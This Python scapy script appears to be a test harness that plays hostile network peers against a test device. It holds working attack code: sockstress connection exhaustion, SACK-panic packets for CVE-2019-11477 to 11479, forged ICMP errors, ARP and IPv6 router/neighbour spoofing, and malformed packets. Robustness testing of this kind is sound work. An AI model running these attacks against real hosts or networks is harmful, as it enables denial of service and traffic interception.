"""Peers that mean no good, by scapy: `stranger.py ATTACK`, in the namespace of the test, on its device t0."""

import random
import sys
import time

from scapy.all import (
    ARP, ICMP, IP, TCP, UDP, AsyncSniffer, Ether, ICMPv6DestUnreach, ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6ND_NS,
    ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6, Raw, conf, get_if_hwaddr,
)

conf.verb = 0
DEVICE, OURS, OURS_V6, HOST, PORT = "t0", "10.9.0.2", "fd00:9::2", "10.9.0.1", 7
OUR_MAC, FOREIGN = "02:00:00:00:00:10", "02:66:66:66:66:66"
MAC = get_if_hwaddr(DEVICE)
wire = conf.L2socket(iface=DEVICE)


def send(*packets, to=OUR_MAC, station=MAC):
    for packet in packets:
        wire.send(Ether(src=station, dst=to) / packet)


class Crowd:
    """Addresses that the host does not have, with a TCP of their own: what comes for them is answered by `answer`."""

    def __init__(self, answer, first=100, count=100):
        self.members = {f"10.9.0.{n}" for n in range(first, first + count)}
        self.answer, self.seen = answer, 0
        self.sniffer = AsyncSniffer(iface=DEVICE, prn=self.hear, store=False, filter=f"ether src {OUR_MAC}")
        self.sniffer.start()
        time.sleep(1)

    def hear(self, frame):
        if ARP in frame and frame[ARP].op == 1 and frame[ARP].pdst in self.members:
            send(ARP(op=2, hwsrc=MAC, psrc=frame[ARP].pdst, hwdst=OUR_MAC, pdst=OURS))
        elif TCP in frame and IP in frame and frame[IP].dst in self.members:
            self.seen += 1
            self.answer(frame[IP].dst, frame[TCP])

    def connect(self, options, window=0):
        for address in sorted(self.members):
            for _ in range(2):
                send(IP(src=address, dst=OURS) / TCP(sport=4000, dport=PORT, flags="S", seq=1000, window=window, options=options))
            time.sleep(0.01)

    def rest(self, seconds):
        time.sleep(seconds)
        self.sniffer.stop()
        print("seen", self.seen)


def segment(address, heard, payload=b"", window=0, options=(), seq=1001, ack=None):
    tcp = TCP(sport=4000, dport=PORT, flags="PA" if payload else "A", seq=seq,
              ack=heard.seq + 1 if ack is None else ack, window=window, options=list(options))
    send(IP(src=address, dst=OURS) / tcp / Raw(payload))


def sockstress():
    """Connections that ask for an answer and leave no window for it."""
    def answer(address, heard):
        if heard.flags.S:
            segment(address, heard)
            segment(address, heard, b"x" * 500)
    crowd = Crowd(answer)
    crowd.connect([("MSS", 1460)])
    crowd.rest(5)


def sack_panic():
    """The smallest segments, SACK for every second one (CVE-2019-11477, -11478, -11479)."""
    def answer(address, heard):
        if heard.flags.S:
            segment(address, heard, window=65535)
            segment(address, heard, b"x" * 1400, window=65535)
        elif len(heard.payload):
            end = heard.seq + len(heard.payload)
            blocks = tuple(n for at in range(3) for n in (end + 176 * at, end + 176 * at + 88))
            segment(address, heard, window=65535, options=[("NOP", None), ("NOP", None), ("SAck", blocks)],
                    seq=2401, ack=heard.seq)
    for mss in (48, 88):
        crowd = Crowd(answer, first=100 if mss == 48 else 150, count=40)
        crowd.connect([("MSS", mss), ("SAckOK", b"")], window=65535)
        crowd.rest(3)


def forged_errors():
    """ICMP about connections that may be: unreachable, too big, quench, redirect."""
    for n in range(1000):
        port = random.randrange(32768, 61000)
        quoted = IP(src=OURS, dst=HOST) / TCP(sport=PORT, dport=port, seq=random.getrandbits(32), flags="A")
        for kind, code, mtu in ((3, 1, 0), (3, 3, 0), (3, 4, 68), (4, 0, 0), (5, 1, 0), (11, 0, 0)):
            send(IP(src="10.9.0.99", dst=OURS) / ICMP(type=kind, code=code, nexthopmtu=mtu) / quoted)
        quoted6 = IPv6(src=OURS_V6, dst="fd00:9::1") / TCP(sport=PORT, dport=port, flags="A")
        send(IPv6(src="fd00:9::99", dst=OURS_V6) / ICMPv6DestUnreach(code=4) / quoted6)


def arp_spoofing():
    """The host's address at a foreign station, by answer, question and announcement; a thousand neighbours."""
    for n in range(1000):
        for op in (1, 2):
            send(ARP(op=op, hwsrc=FOREIGN, psrc=HOST, hwdst=OUR_MAC, pdst=OURS), station=FOREIGN)
            send(ARP(op=op, hwsrc=FOREIGN, psrc=HOST, hwdst="ff:ff:ff:ff:ff:ff", pdst=HOST),
                 to="ff:ff:ff:ff:ff:ff", station=FOREIGN)
        station = f"02:55:00:00:{n >> 8:02x}:{n & 255:02x}"
        send(ARP(op=1, hwsrc=station, psrc=f"10.9.0.{n % 250 + 3}", pdst=OURS), station=station)


def ra_spoofing():
    """Routers and neighbours of IPv6 that nobody asked for."""
    for n in range(500):
        router = f"fe80::{n + 1:x}"
        prefix = ICMPv6NDOptPrefixInfo(prefix=f"2001:db8:{n:x}::", prefixlen=64, L=1, A=1)
        ra = ICMPv6ND_RA(routerlifetime=9000) / prefix / ICMPv6NDOptSrcLLAddr(lladdr=FOREIGN)
        send(IPv6(src=router, dst="ff02::1", hlim=255) / ra, to="33:33:00:00:00:01", station=FOREIGN)
        send(IPv6(src="fd00:9::1", dst=OURS_V6, hlim=255) / ICMPv6ND_NA(tgt="fd00:9::1", R=1, S=1, O=1)
             / ICMPv6NDOptSrcLLAddr(lladdr=FOREIGN), station=FOREIGN)
        send(IPv6(src=f"fd00:9::{n + 0x100:x}", dst=OURS_V6, hlim=255) / ICMPv6ND_NS(tgt=OURS_V6)
             / ICMPv6NDOptSrcLLAddr(lladdr=FOREIGN), station=FOREIGN)


def oddities():
    """Segments and packets that no honest peer makes."""
    for n in range(500):
        source = f"10.9.0.{n % 200 + 20}"
        for flags in ("", "SF", "SR", "FR", "SFRPAU", "FPU"):
            send(IP(src=source, dst=OURS) / TCP(sport=n + 1, dport=PORT, flags=flags, seq=n))
        send(IP(src=source, dst=OURS, flags="MF") / TCP(sport=n + 1, dport=PORT, flags="S"))
        send(IP(src=source, dst=OURS, frag=1) / Raw(b"\0" * 8))
        send(IP(src=source, dst=OURS, options=b"\x83\x07\x04\x01\x02\x03\x04\0") / TCP(dport=PORT, flags="S"))
        send(IP(src=source, dst=OURS, len=9) / TCP(dport=PORT, flags="S"))
        send(IP(src="127.0.0.1", dst=OURS) / TCP(dport=PORT, flags="S"))
        send(IP(src=source, dst="255.255.255.255") / TCP(dport=PORT, flags="S"))
        send(IP(src=source, dst=OURS) / TCP(sport=n + 1, dport=PORT, flags="S", dataofs=15))
        send(IP(src=source, dst=OURS) / UDP(sport=n + 1, dport=PORT, len=3))


globals()[sys.argv[1]]()
